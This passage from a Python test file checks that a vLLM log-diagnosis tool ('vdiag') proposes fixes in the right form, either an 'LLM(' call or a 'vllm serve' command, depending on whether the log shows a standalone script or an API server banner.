        ({"model": "acme/model-7b", "port": 8000}, False),
    ],
)
def test_a_script_that_calls_the_engine_itself_is_told_by_its_arguments(
    args: dict[str, Any], script: bool
) -> None:
    log = SCRIPT.format(args=repr({**args, "max_model_len": 131072})) + KV
    assert vdiag.diagnose(log).diagnoses[0].fixes[0].run[0].startswith("LLM(" if script else "vllm serve")
    banner = "INFO 03-03 08:00:00 [api_server.py:1839] vLLM API server version 0.11.0\n"
    assert vdiag.diagnose(banner + log).diagnoses[0].fixes[0].run[0].startswith("vllm serve")
